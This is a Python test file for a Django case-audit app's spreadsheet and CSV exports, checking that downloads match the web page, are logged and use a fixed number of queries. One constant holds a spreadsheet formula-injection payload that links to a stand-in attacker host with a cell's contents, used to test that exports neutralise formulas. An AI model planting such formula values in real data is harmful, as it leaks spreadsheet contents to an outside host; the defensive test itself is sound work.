"""Downloading the response grid and the counts: the file says what the page
says, no formula survives in it, and the download is logged."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from maca.audit_trail.models import AuditEvent
from maca.partnerships.services import agency_create
from maca.programme.tests.factories import ProgrammeFactory, replan, year_past
from maca.returns.models import Return
from maca.returns.tests.builders import audit_with_returns
from maca.returns.tests.test_tracking import complete
from maca.tests.querycount import count_queries
from maca.tests.tables import read_tables

HOSTILE_NAME = '=HYPERLINK("http://attacker.example/?d="&A2,"Open")'


@pytest.fixture
def audit(world):
    audit = audit_with_returns(
        world,
        cases=3,
        agencies=[world.police, world.gp_practice],
        programme=ProgrammeFactory(partnership=world.partnership, year=year_past()),
    )
    first, second = Return.objects.filter(audit=audit, agency=world.police).order_by("audit_case__number")[:2]
    complete(first, world, {"info_grade": "good", "health_involved": "yes"}, accept=True)
    complete(second, world, {"info_grade": "requires_improvement", "health_involved": "no"})
    deadline = dt.date.today() - dt.timedelta(days=2)
    replan(audit, return_deadline=deadline, planned_meeting_date=max(deadline, audit.planned_meeting_date))
    # Both came in before the deadline (moved into the past above): neither was submitted late.
    Return.objects.filter(pk__in=[first.pk, second.pk]).update(
        submitted_at=on_time(deadline), first_submitted_at=on_time(deadline)
    )
    return audit


def on_time(deadline):
    """A moment on the day before ``deadline``: a return submitted then was on time."""
    from django.utils import timezone

    return timezone.make_aware(dt.datetime.combine(deadline - dt.timedelta(days=1), dt.time(12)))


def workbook_of(response):
    return load_workbook(io.BytesIO(b"".join(response.streaming_content)))


def test_the_grid_in_excel_holds_what_the_page_shows(world, audit, client_for):
    client = client_for(world["qa"])
    page = read_tables(client.get(reverse("returns:tracking", args=[audit.pk])).content.decode())
    shown = page["Returns by agency and case"]
    response = client.get(reverse("returns:tracking_export", args=[audit.pk, "xlsx"]))
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="responses-')
    workbook = workbook_of(response)
    grid = workbook["Returns by agency and case"]
    rows = [[cell.value for cell in row] for row in grid.iter_rows()]
    assert rows[0] == ["Returns by agency and case", None, None, None]  # several tables: each under its title
    assert rows[1] == shown.head
    for written, seen in zip(rows[2:], shown.rows, strict=True):
        # The page writes a late return's status and "Late" side by side.
        assert written == [text.replace(" Late", " (late)") for text in seen]
    assert rows[1] == ["Agency", "Case 1", "Case 2", "Case 3"]
    assert rows[3] == ["Testshire Police", "Accepted", "Submitted", "Not started (late)"]
    by_agency = workbook["Responses by agency"]
    police = next(row for row in by_agency.iter_rows(values_only=True) if row[0] == "Testshire Police")
    assert police[:4] == ("Testshire Police", 2, 3, 1)
    assert page["Responses by agency"].cell("Testshire Police", "Responded") == "2 of 3 returns"


def test_the_grid_as_csv_streams_the_same_rows(world, audit, client_for):
    client = client_for(world["qa"])
    response = client.get(reverse("returns:tracking_export", args=[audit.pk, "csv"]))
    assert response.streaming
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert rows[0] == ["Returns by agency and case"]
    assert rows[1] == ["Agency", "Case 1", "Case 2", "Case 3"]
    assert rows[2] == [
        "Mill Lane Surgery (Testshire Care Board)",
        "Not started (late)",
        "Not started (late)",
        "Not started (late)",
    ]
    assert rows[3] == ["Testshire Police", "Accepted", "Submitted", "Not started (late)"]


def test_an_agency_name_that_is_a_formula_is_written_as_text(world, client_for):
    hostile = agency_create(actor=world["admin"].user, partnership=world.partnership, name=HOSTILE_NAME, kind="other")
    audit = audit_with_returns(world, cases=1, agencies=[hostile])
    client = client_for(world["qa"])
    xlsx = b"".join(client.get(reverse("returns:tracking_export", args=[audit.pk, "xlsx"])).streaming_content)
    sheet = load_workbook(io.BytesIO(xlsx))["Returns by agency and case"]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert sheet["A3"].value == "'" + HOSTILE_NAME  # the agency names its row
    calamine = CalamineWorkbook.from_filelike(io.BytesIO(xlsx)).get_sheet_by_name("Responses by agency").to_python()
    assert calamine[2][0] == "'" + HOSTILE_NAME
    text = b"".join(client.get(reverse("returns:tracking_export", args=[audit.pk, "csv"])).streaming_content)
    rows = list(csv.reader(io.StringIO(text.decode("utf-8-sig"))))
    assert rows[2][0] == "'" + HOSTILE_NAME
    assert not any(cell.startswith("=") for row in rows for cell in row)


def test_downloading_the_grid_is_logged_without_a_case_reference(world, audit, client_for):
    client_for(world["qa"]).get(reverse("returns:tracking_export", args=[audit.pk, "csv"]))
    event = AuditEvent.objects.get(action="responses.exported")
    assert event.actor == world["qa"].user and event.object_id == str(audit.pk)
    assert event.changes == {"format": "csv", "cases": 3, "agencies": 2}


def test_the_counts_in_excel_hold_what_the_page_shows(world, audit, client_for):
    client = client_for(world["qa"])
    page = read_tables(client.get(reverse("returns:summary", args=[audit.pk])).content.decode())
    assert page["Returns received"].cell("Testshire Police", "Received") == "2 of 3 (67%)"
    workbook = workbook_of(client.get(reverse("returns:summary_export", args=[audit.pk, "xlsx"])))
    received = list(workbook["Returns received"].iter_rows(values_only=True))
    assert received[1] == ("Agency", "Received", "Returns asked for")
    assert ("Testshire Police", 2, 3) in received
    grade_sheet = next(name for name in workbook.sheetnames if name.startswith("How well"))
    grades = list(workbook[grade_sheet].iter_rows(values_only=True))
    caption = grades[0][0]
    shown = page[caption]
    assert shown.cell("All agencies", "Met the standard") == "1 of 2 (50%)"
    all_agencies = next(row for row in grades if row[0] == "All agencies")
    assert all_agencies[-2:] == (1, 2)
    for level in shown.head[1:-1]:
        assert all_agencies[grades[1].index(level)] == int(shown.cell("All agencies", level))
    assert AuditEvent.objects.get(action="counts.exported").changes == {"format": "xlsx", "returns_counted": 2}


def test_the_download_asks_the_same_number_of_queries_however_many_cases(world, client_for):
    client = client_for(world["qa"])

    def queries_for(cases: int) -> int:
        audit = audit_with_returns(world, cases=cases, agencies=[world.police, world.gp_practice])
        url = reverse("returns:tracking_export", args=[audit.pk, "xlsx"])

        def fetch():
            response = client.get(url)
            b"".join(response.streaming_content)
            return response

        fetch()
        return count_queries(fetch)

    assert queries_for(2) == queries_for(8)


def test_a_sub_unit_is_named_the_same_in_returns_received_and_in_its_grades(world, audit, client_for):
    """QA walk: "Returns received" named the GP practice's returns by its care
    board alone, the grades beside it by the practice: now both name the
    practice with its care board, as every page does."""
    from maca.returns.models import ReturnStatus

    gp_return = Return.objects.filter(audit=audit, agency=world.gp_practice).order_by("audit_case__number").first()
    Return.objects.filter(pk=gp_return.pk).update(status=ReturnStatus.SUBMITTED, answers={"info_grade": "good"})
    page = read_tables(client_for(world["qa"]).get(reverse("returns:summary", args=[audit.pk])).content.decode())
    received = page["Returns received"]
    assert [row[0] for row in received.rows] == ["Mill Lane Surgery (Testshire Care Board)", "Testshire Police"]
    assert received.cell("Mill Lane Surgery (Testshire Care Board)", "Received").startswith("1 of ")
    grades = next(table for caption, table in page.items() if caption.startswith("How well"))
    agencies = [row[0] for row in grades.rows]
    assert "Mill Lane Surgery (Testshire Care Board)" in agencies
    assert "Testshire Police" in agencies  # a top-level agency keeps its own name
    # The download names them the same.
    csv_text = b"".join(
        client_for(world["qa"]).get(reverse("returns:summary_export", args=[audit.pk, "csv"])).streaming_content
    ).decode("utf-8-sig")
    assert "Mill Lane Surgery (Testshire Care Board)" in csv_text and "\nTestshire Care Board," not in csv_text


def test_a_deep_dives_grid_is_downloaded_under_the_name_its_page_gives_it(world, client_for):
    """The page calls a deep dive's grid "Summative reports by agency" (one
    report an agency); its download said "Returns by agency and case"."""
    audit = audit_with_returns(world, cases=2, kind="deep_dive", tool_kind="summative")
    client = client_for(world["qa"])
    page = read_tables(client.get(reverse("returns:tracking", args=[audit.pk])).content.decode())
    shown = page["Summative reports by agency"]
    workbook = workbook_of(client.get(reverse("returns:tracking_export", args=[audit.pk, "xlsx"])))
    assert "Returns by agency and case" not in workbook.sheetnames
    rows = [[cell.value for cell in row] for row in workbook["Summative reports by agency"].iter_rows()]
    assert rows[0][0] == "Summative reports by agency"
    assert rows[1] == shown.head == ["Agency", "Summative report"]
    # The page writes a late report's status and "Late" side by side.
    assert rows[2:] == [[text.replace(" Late", " (late)") for text in row] for row in shown.rows]
    text = b"".join(client.get(reverse("returns:tracking_export", args=[audit.pk, "csv"])).streaming_content)
    assert next(csv.reader(io.StringIO(text.decode("utf-8-sig")))) == ["Summative reports by agency"]
